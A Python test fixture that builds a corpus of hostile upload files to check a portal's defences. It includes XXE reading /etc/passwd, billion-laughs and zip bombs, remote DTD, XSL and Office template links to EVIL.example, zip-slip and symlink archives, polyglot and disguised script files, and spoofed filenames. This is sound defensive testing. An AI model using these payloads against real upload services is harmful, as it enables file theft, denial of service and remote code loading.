"""Sixty files that somebody might send: none may harm, and none may bring the portal down.

Whatever would act carries the word EVIL, so that what is kept can be searched for it.
"""

import io
import zipfile

import pikepdf
from pikepdf import Dictionary, Name
from PIL import Image
from PIL.PngImagePlugin import PngInfo

from innovation_voucher.lib.tests import files

ENTITY = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><a>EVIL&e;</a>'
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
BILLION = f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY l0 "EVIL">{LAUGHS}]><a>&l9;</a>'
STYLED = '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="http://EVIL.example/x.xsl"?><!DOCTYPE a><a/>'
REMOTE = '<?xml version="1.0"?><!DOCTYPE a SYSTEM "http://EVIL.example/a.dtd"><a/>'
SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='EVIL'/>"
HTML = b"<!DOCTYPE html><script>EVIL</script>"
TAIL = b"<script>EVIL</script>"


def relation(kind: str) -> str:
    """The list of relations of a part that loads something from elsewhere."""
    package = "http://schemas.openxmlformats.org"
    return (
        f'<?xml version="1.0"?><Relationships xmlns="{package}/package/2006/relationships">'
        f'<Relationship Id="r1" TargetMode="External" Target="http://EVIL.example/t.dotm" '
        f'Type="{package}/officeDocument/2006/relationships/{kind}"/></Relationships>'
    )


def bomb_in_pdf(document: pikepdf.Pdf) -> None:
    """A stream of 200 MB that takes a few kilobytes."""
    stream = pikepdf.Stream(document, bytes(200_000_000))
    stream.Type = Name.EmbeddedFile
    document.Root.Bomb = stream


def remote_form(document: pikepdf.Pdf) -> None:
    document.pages[0].AA = Dictionary(O=Dictionary(S=Name.URI, URI="http://EVIL.example"))


def told_picture() -> bytes:
    info = PngInfo()
    info.add_text("Comment", "EVIL <script>")
    return files.picture(pnginfo=info)


def exif_picture() -> bytes:
    exif = Image.Exif()
    exif[0x010E] = "EVIL <?php system(1) ?>"
    return files.picture("JPEG", exif=exif)


def linked_archive() -> bytes:
    """A symbolic link as a member."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as packed:
        link = zipfile.ZipInfo("link.pdf")
        link.external_attr = 0o120777 << 16
        packed.writestr(link, "/etc/EVIL")
    return out.getvalue()


def twice_named_archive() -> bytes:
    with_twice = [("a.pdf", files.pdf()), ("b.pdf", b"EVIL"), ("A.PDF", b"EVIL")]
    return files.archive(with_twice)


def locked_archive() -> bytes:
    """The flag of encryption is set in both lists."""
    content = bytearray(files.archive({"a.pdf": b"EVIL"}))
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        content[content.index(mark) + offset] |= 1
    return bytes(content)


def huge_bitmap() -> bytes:
    """A header that promises 100,000 pixels a side."""
    content = bytearray(files.picture("BMP"))
    content[18:26] = (100_000).to_bytes(4, "little") * 2
    return bytes(content) + b"EVIL"


def sheet(**parts: bytes | str) -> bytes:
    """Something that says it is a workbook, with further parts."""
    members: dict[str, bytes | str] = {"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<workbook/>"}
    return files.archive({**members, **{name.replace("__", "/"): content for name, content in parts.items()}})


DISGUISED: dict[str, bytes] = {
    "page.pdf": HTML,
    "page.docx": HTML,
    "page.png": b"\n\n  <!-- x -->" + HTML,
    "drawing.png": SVG,
    "drawing.jpg": b'<?xml version="1.0"?>' + SVG,
    "drawing.pdf": b"\xef\xbb\xbf" + SVG,
    "letter.doc": b"MIME-Version: 1.0\nContent-Type: text/html\n\n" + TAIL,
    "program.pdf": b"MZ" + bytes(400) + b"EVIL",
    "program.jpg": b"\x7fELF" + bytes(400) + b"EVIL",
    "script.xml": b"#!/bin/sh\necho EVIL\n",
    "script.jpg": b"<?php echo 'EVIL'; ?>",
    "nothing.pdf": b"",
    "zeros.jpg": bytes(3_000_000),
    "film.gif": b"GIF89a" + bytes(30) + files.archive({"a.class": b"EVIL"}),
}
POLYGLOTS: dict[str, bytes] = {
    "tail.jpg": files.picture("JPEG", comment=b"EVIL") + TAIL,
    "tail.png": files.picture() + TAIL,
    "tail.pdf": files.pdf() + files.archive({"a.html": TAIL}),
    "head.pdf": TAIL + b"\n" * 900 + files.pdf(),
    "told.png": told_picture(),
    "exif.jpg": exif_picture(),
    "huge.bmp": huge_bitmap(),
    "flood.png": files.picture(size=(14_000, 14_000), mode="1", color=0),
}
MARKUP: dict[str, bytes] = {
    "entity.xml": ENTITY.encode(),
    "wide.xml": ENTITY.encode("utf-16"),
    "laughs.xml": BILLION.encode(),
    "styled.xml": STYLED.encode(),
    "remote.xml": REMOTE.encode(),
    "entity.ofd": files.archive({"OFD.xml": ENTITY}),
    "laughs.ofd": files.archive({"OFD.xml": BILLION}),
    "slip.ofd": files.archive({"OFD.xml": "<OFD/>", "../../EVIL.xml": "EVIL"}),
}
OFFICE: dict[str, bytes] = {
    "macro.docx": files.document(**{"word__vbaProject.bin": b"EVIL"}),
    "object.docx": files.document(**{"word__embeddings__oleObject1.bin": b"EVIL"}),
    "template.docx": files.document(**{"word/_rels/settings.xml.rels": relation("attachedTemplate")}),
    "bomb.docx": files.document(**{"word__extra.xml": bytes(300_000_000)}),
    "macro.xlsx": sheet(**{"xl__vbaProject.bin": b"EVIL"}),
    "links.xlsx": sheet(**{"xl/externalLinks/_rels/externalLink1.xml.rels": relation("externalLinkPath")}),
    "macro.doc": files.OLE + "WordDocument".encode("utf-16-le") + "_VBA_PROJECT".encode("utf-16-le") + b"EVIL",
}
ARCHIVES: dict[str, bytes] = {
    "bomb.zip": files.archive({f"{n}.pdf": bytes(4_000_000) for n in range(5)}),
    "nested.zip": files.archive({"inner.zip": files.archive({"a.pdf": files.pdf()})}),
    "many.zip": files.archive({f"{n}.pdf": b"EVIL" for n in range(201)}),
    "../../slip.zip": files.archive({"../../etc/evil.pdf": files.pdf() + TAIL}),
    "absolute.zip": files.archive({"/etc/evil.pdf": b"EVIL"}),
    "backslash.zip": files.archive({"..\\..\\evil.pdf": b"EVIL"}),
    "program.zip": files.archive({"setup.exe": b"MZEVIL"}),
    "page.zip": files.archive({"index.html": HTML}),
    "link.zip": linked_archive(),
    "twice.zip": twice_named_archive(),
    "locked.zip": locked_archive(),
}
BROKEN: dict[str, bytes] = {
    "cut.pdf": files.pdf()[:80],
    "cut.jpg": files.picture("JPEG")[:40],
    "cut.zip": files.archive({"a.pdf": files.pdf()})[:60],
    "locked.pdf": files.pdf(encryption=pikepdf.Encryption(user="x", owner="y")),
    "bomb.pdf": files.pdf(bomb_in_pdf),
    "remote.pdf": files.pdf(remote_form),
    "zero\x00name.pdf": files.pdf(files.ACTIVE_PDFS["opening script"]),
    "right\u202efdp.exe": files.pdf(files.ACTIVE_PDFS["named script"]),
}
ACTIVE = {f"{name}.pdf": files.pdf(change) for name, change in files.ACTIVE_PDFS.items()}

CORPUS: dict[str, bytes] = DISGUISED | POLYGLOTS | MARKUP | OFFICE | ARCHIVES | BROKEN | ACTIVE
